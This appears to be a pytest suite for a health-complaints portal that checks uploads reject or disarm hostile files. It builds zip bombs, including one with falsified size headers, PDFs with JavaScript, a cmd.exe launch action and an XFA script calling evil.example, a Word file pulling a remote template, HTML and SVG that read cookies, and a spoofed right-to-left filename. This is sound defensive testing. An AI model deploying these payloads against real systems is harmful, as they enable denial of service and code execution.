"""A corpus of hostile files, made in code, sent through every way a file enters the portal: the
online form's documents step, My cases, the plan's written response and its proof of carrying
out, and the staff admin's "add a document".

Files that cannot be opened safely (zip bombs, programs, locked or unreadable PDFs, HTML, SVG)
are never stored. Files with active content (PDFs with scripts, launch actions, XFA, Word files
with macros or outside links) are stored as disarmed copies: each is then downloaded through the
real download views (the staff admin, the plan portal, My cases) and read again, and nothing
active comes back. A good PDF sent the same way must be stored (so that a path that stores
nothing at all cannot pass).

The run prints its count, e.g. "upload corpus: 11 hostile files x 5 upload paths = 55 attempts,
0 stored; 9 files with active content x 5 paths stored disarmed, 0 active after download;
5 good files stored"."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import StaffGroup
from accounts.tests.factories import HealthPlanFactory, PlanUserFactory, StaffFactory
from complaints.models import Document, PlanResponse, Status
from complaints.tests import pdfs
from complaints.tests.drive import PATHS, drive
from complaints.tests.factories import file_case
from complaints.tests.samples import PDF, PDF_WITH_JAVASCRIPT, PNG, WINDOWS_PROGRAM, docx
from filing.models import DraftDocument
from filing.tests.answers import fill_draft, step_url
from helpcenter.tests import counts
from twofactor.testing import verified_client

pytestmark = pytest.mark.django_db

LIMIT = 256 * 1024  # the per-file limit during this test (a setting), so "too big" stays quick


def _docx_with(entries: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _lying_docx() -> bytes:
    """A zip bomb whose directory says each part is tiny: the real sizes are 64 MB of zeros."""
    honest = _docx_with({"word/document.xml": b"\0" * (64 * 1024 * 1024)})
    lie = struct.pack("<L", 100)
    # Rewrite the uncompressed size in the local header (offset 22) and central directory (24).
    data = bytearray(honest)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_length = struct.unpack("<H", data[start + (26 if signature == b"PK\x03\x04" else 28) :][:2])[0]
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + name_length] == b"word/document.xml":
                data[start + offset : start + offset + 4] = lie
            start += 4
    return bytes(data)


XFA_SCRIPT = zlib.compress(
    b"<xdp:xdp><template><script>app.launchURL('https://evil.example')</script></template></xdp:xdp>"
)


def _locked_pdf() -> bytes:
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as document:
        document.save(output, encryption=pikepdf.Encryption(owner="owner-secret", user="user-secret"))
    return output.getvalue()


HOSTILE: dict[str, tuple[str, bytes]] = {
    "zip bomb .docx (64 MB of zeros)": ("records.docx", _docx_with({"word/document.xml": b"\0" * (64 * 1024 * 1024)})),
    "zip bomb .docx under the total but 1000:1": ("notes.docx", _docx_with({"word/document.xml": b"\0" * 4_000_000})),
    "zip bomb .docx that understates its sizes": ("letter.docx", _lying_docx()),
    ".docx with 5000 parts": ("many.docx", _docx_with({f"word/media/p{i}.xml": b"<p/>" for i in range(5000)})),
    "a Windows program renamed .pdf": ("denial.pdf", WINDOWS_PROGRAM),
    "PDF locked with a password": ("bill.pdf", _locked_pdf()),
    "PDF that cannot be read": ("bill.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"),
    "empty file": ("empty.pdf", b""),
    "file over the size limit": ("big.pdf", PDF + b"%" + b"x" * LIMIT),
    "HTML pretending to be PNG": ("photo.png", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
    "SVG with a script": (
        "scan.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script><rect/></svg>',
    ),
}
CATALOG_OPENS = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
# Stored, but only as a copy without the active part.
ACTIVE: dict[str, tuple[str, bytes]] = {
    "PDF with JavaScript": ("denial.pdf", PDF_WITH_JAVASCRIPT),
    "PDF/HTML polyglot with a script": (
        "denial.pdf",
        PDF_WITH_JAVASCRIPT + b"<html><script>alert(1)</script></html>\n",
    ),
    "PDF with #-escaped /JavaScript": (
        "bill.pdf",
        pdfs.assemble(
            {
                **pdfs.PAGE_OBJECTS,
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>",
            }
        ),
    ),
    "PDF with JavaScript in a big object stream": (
        "bill.pdf",
        pdfs.assemble(
            {**pdfs.PAGE_OBJECTS, 1: CATALOG_OPENS},
            packed={**{10 + i: b"<< /Note (filler %d) >>" % i for i in range(2000)}, 6: JS_ACTION},
            stream_padding=5000,
        ),
    ),
    "PDF with JavaScript in a predictor-encoded object stream": (
        "bill.pdf",
        pdfs.assemble({**pdfs.PAGE_OBJECTS, 1: CATALOG_OPENS}, packed={6: JS_ACTION}, predictor_columns=11),
    ),
    "PDF with a launch action added in an incremental update": (
        "bill.pdf",
        pdfs.incremental_update(
            pdfs.assemble(pdfs.PAGE_OBJECTS, classic=True),
            {1: CATALOG_OPENS, 6: b"<< /S /Launch /F (cmd.exe) >>"},
        ),
    ),
    "PDF with an XFA form that carries a script": (
        "form.pdf",
        pdfs.assemble(
            {
                **pdfs.PAGE_OBJECTS,
                1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>",
                6: b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(XFA_SCRIPT), XFA_SCRIPT),
            }
        ),
    ),
    ".docx with macros": ("letter.docx", docx(with_macros=True)),
    ".docx with a template fetched from a server": (
        "letter.docx",
        _docx_with(
            {
                "word/document.xml": b"<w:document/>",
                "word/_rels/settings.xml.rels": (
                    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    b'<Relationship Id="rId1" TargetMode="External" Target="https://evil.example/t.dotm" '
                    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
                    b"</Relationships>"
                ),
            }
        ),
    ),
}
GOOD = ("denial-letter.pdf", PDF)


@dataclass
class UploadPath:
    name: str
    send_files: Callable[[list[tuple[str, bytes]]], object]
    stored: Callable[[], int]
    rows: Callable[[], list]  # what the path stored: Document or DraftDocument rows

    def send(self, name: str, data: bytes):
        return self.send_files([(name, data)])


def _file(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def _files(files) -> list[SimpleUploadedFile]:
    return [_file(name, data) for name, data in files]


@dataclass
class Corpus:
    paths: list[UploadPath]
    enrollee: Client
    plan: Client
    staff: Client


@pytest.fixture
def corpus(settings, tmp_path) -> Corpus:
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.UPLOAD_MAX_FILE_BYTES = LIMIT
    settings.UPLOAD_MAX_FILES_PER_CASE = 100
    plan = HealthPlanFactory()

    enrollee_client = Client()
    waiting = drive(file_case(health_plan_id=plan.id), PATHS[Status.RESPONSE_REQUESTED])
    enrollee_client.force_login(waiting.filed_by)
    draft = fill_draft(enrollee_client, plan, upto="problem")

    plan_client = verified_client(PlanUserFactory(health_plan=plan))
    decided = drive(file_case(health_plan_id=plan.id), PATHS[Status.DECISION_ISSUED])
    staff_client = verified_client(StaffFactory(groups=[StaffGroup.INTAKE]))

    def documents(case, source=None):
        def rows():
            found = Document.objects.filter(case=case).order_by("id")
            return list(found.filter(source=source) if source else found)

        return rows

    def staff_adds(files):
        return [
            staff_client.post(
                f"/admin/complaints/case/{waiting.pk}/documents/add/",
                {"document-file": _file(name, data), "document-kind": "OTHER", "document-shared_with_plan": "on"},
            )
            for name, data in files
        ][-1]

    paths = [
        UploadPath(
            "online form, documents step",
            lambda files: enrollee_client.post(
                step_url(draft, "documents"), {"action": "upload", "kind": "OTHER", "files": _files(files)}
            ),
            lambda: DraftDocument.objects.filter(draft=draft).count(),
            lambda: list(DraftDocument.objects.filter(draft=draft).order_by("id")),
        ),
        UploadPath(
            "My cases, add documents",
            lambda files: enrollee_client.post(
                f"/my/{waiting.number}/documents/", {"kind": "BILL", "files": _files(files)}
            ),
            lambda: len(documents(waiting, Document.Source.ENROLLEE)()),
            documents(waiting, Document.Source.ENROLLEE),
        ),
        UploadPath(
            "plan portal, written response",
            lambda files: plan_client.post(
                f"/plan/cases/{waiting.number}/respond/",
                {"statement": "Our response and the member's records.", "files": _files(files)},
            ),
            lambda: PlanResponse.objects.filter(case=waiting).count() + len(documents(waiting, Document.Source.PLAN)()),
            documents(waiting, Document.Source.PLAN),
        ),
        UploadPath(
            "plan portal, proof of carrying out",
            lambda files: plan_client.post(
                f"/plan/cases/{decided.number}/carried-out/",
                {"carried_out_date": timezone.localdate().isoformat(), "proofs": _files(files)},
            ),
            lambda: len(documents(decided)()),
            documents(decided),
        ),
        UploadPath(
            "staff admin, add a document",
            staff_adds,
            lambda: len(documents(waiting, Document.Source.STAFF)()),
            documents(waiting, Document.Source.STAFF),
        ),
    ]
    return Corpus(paths, enrollee_client, plan_client, staff_client)


@pytest.fixture
def paths(corpus) -> list[UploadPath]:
    return corpus.paths


def test_no_hostile_file_is_stored_through_any_upload_path(paths):
    attempts = stored = 0
    leaks = []
    for path in paths:
        for label, (name, data) in HOSTILE.items():
            before = path.stored()
            response = path.send(name, data)
            attempts += 1
            assert response.status_code < 500, (path.name, label)
            if path.stored() != before:
                stored += 1
                leaks.append(f"{path.name}: {label}")
    good = []
    for path in paths:
        before = path.stored()
        path.send(*GOOD)
        if path.stored() > before:
            good.append(path.name)
    counts.report(
        f"upload corpus: {len(HOSTILE)} hostile files x {len(paths)} upload paths = {attempts} attempts, "
        f"{stored} stored; {len(good)} good files stored"
    )
    assert leaks == []
    assert good == [path.name for path in paths], "a good PDF must be stored through every path"


def _downloads(corpus: Corpus, document) -> dict[str, bytes]:
    """The document as each person who may open it gets it, through the real download views."""
    case = document.case
    got = {"staff": corpus.staff.get(f"/admin/complaints/case/{case.pk}/documents/{document.pk}/")}
    if document.shared_with_plan:
        got["plan"] = corpus.plan.get(reverse("plan-document", args=[case.number, document.pk]))
    if document.source == Document.Source.ENROLLEE:
        got["enrollee"] = corpus.enrollee.get(
            reverse("my-case-document", kwargs={"number": case.number, "document_id": document.pk})
        )
    for who, response in got.items():
        assert response.status_code == 200, (who, response.status_code)
    return {who: b"".join(response.streaming_content) for who, response in got.items()}


def _still_active(data: bytes) -> list[str]:
    if data.startswith(b"%PDF"):
        return pdfs.active_codes(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = archive.namelist()
        rels = b"".join(archive.read(name) for name in parts if name.endswith(".rels"))
    return [part for part in parts if "vbaProject" in part] + (["outside link"] if b"External" in rels else [])


def test_files_with_active_content_are_stored_disarmed_and_come_back_disarmed(corpus):
    stored = downloaded = still_active = 0
    problems = []
    files = list(ACTIVE.values())
    assert all(_still_active(data) for _name, data in files), "each file must carry what its label says"
    for path in corpus.paths:
        before = {row.pk for row in path.rows()}
        response = path.send_files(files)
        assert response.status_code < 500, path.name
        new = [row for row in path.rows() if row.pk not in before]
        stored += len(new)
        if len(new) != len(files):
            problems.append(f"{path.name}: {len(new)} of {len(files)} stored")
        for row, (name, original) in zip(new, files, strict=False):
            if not row.active_content_removed:
                problems.append(f"{path.name}: {name} not marked as disarmed")
            with row.file.open("rb") as kept:
                copies = {"stored": kept.read()}
            if isinstance(row, Document):
                copies.update(_downloads(corpus, row))
                downloaded += len(copies) - 1
            for where, data in copies.items():
                if _still_active(data):
                    still_active += 1
                    problems.append(f"{path.name}: {name} ({where}) still has {_still_active(data)}")
                if data.startswith(b"%PDF") and pdfs.pdftotext(data) != pdfs.pdftotext(original):
                    problems.append(f"{path.name}: {name} ({where}) lost its text")
    counts.report(
        f"upload corpus: {len(ACTIVE)} files with active content x {len(corpus.paths)} paths, {stored} stored "
        f"disarmed, {downloaded} downloads through the staff, plan and My cases views, {still_active} still active"
    )
    assert problems == []


def test_each_refusal_says_why_in_words(paths):
    my_cases = next(path for path in paths if path.name == "My cases, add documents")
    expected = {
        "zip bomb .docx (64 MB of zeros)": "expands to far more than its size",
        "a Windows program renamed .pdf": "We accept PDF, JPEG, PNG, TIFF, HEIC and Word",
        "PDF locked with a password": "We could not check this PDF",
        "PDF that cannot be read": "We could not check this PDF",
        "empty file": "This file is empty",
        "file over the size limit": "is larger than",
        "SVG with a script": "We accept PDF, JPEG, PNG, TIFF, HEIC and Word",
    }
    for label, words in expected.items():
        name, data = HOSTILE[label]
        assert words in my_cases.send(name, data).content.decode(), label


def test_a_download_is_named_for_what_the_file_is_without_direction_tricks(corpus):
    """A PDF called poly.html goes out as poly.pdf; right-to-left overrides and controls are gone."""
    my_cases = next(path for path in corpus.paths if path.name == "My cases, add documents")
    my_cases.send_files([("poly.html", PDF), ("invoice\u202efdp.exe", PDF), ("scan", PNG)])
    names = []
    for document in my_cases.rows():
        case = document.case
        for response in (
            corpus.staff.get(f"/admin/complaints/case/{case.pk}/documents/{document.pk}/"),
            corpus.plan.get(reverse("plan-document", args=[case.number, document.pk])),
            corpus.enrollee.get(
                reverse("my-case-document", kwargs={"number": case.number, "document_id": document.pk})
            ),
        ):
            names.append(response["Content-Disposition"])
    assert set(names) == {
        'attachment; filename="poly.pdf"',
        'attachment; filename="invoicefdp.pdf"',
        'attachment; filename="scan.png"',
    }


def test_real_documents_are_not_refused(paths):
    """The checks must not turn away ordinary files: a real-size Word file, a PNG, a PDF whose
    object stream holds ordinary objects."""
    text = " ".join(f"Paragraph {i} of the member's letter about the denied surgery." for i in range(20000))
    ordinary = [
        ("letter.docx", _docx_with({"word/document.xml": f"<w:document>{text}</w:document>".encode()})),
        ("photo.png", PNG),
        (
            "records.pdf",
            pdfs.assemble(pdfs.PAGE_OBJECTS, packed={6: b"<< /Type /Annot /Subtype /Text /Contents (Seen) >>"}),
        ),
    ]
    my_cases = next(path for path in paths if path.name == "My cases, add documents")
    before = my_cases.stored()
    for name, data in ordinary:
        my_cases.send(name, data)
    assert my_cases.stored() == before + len(ordinary)
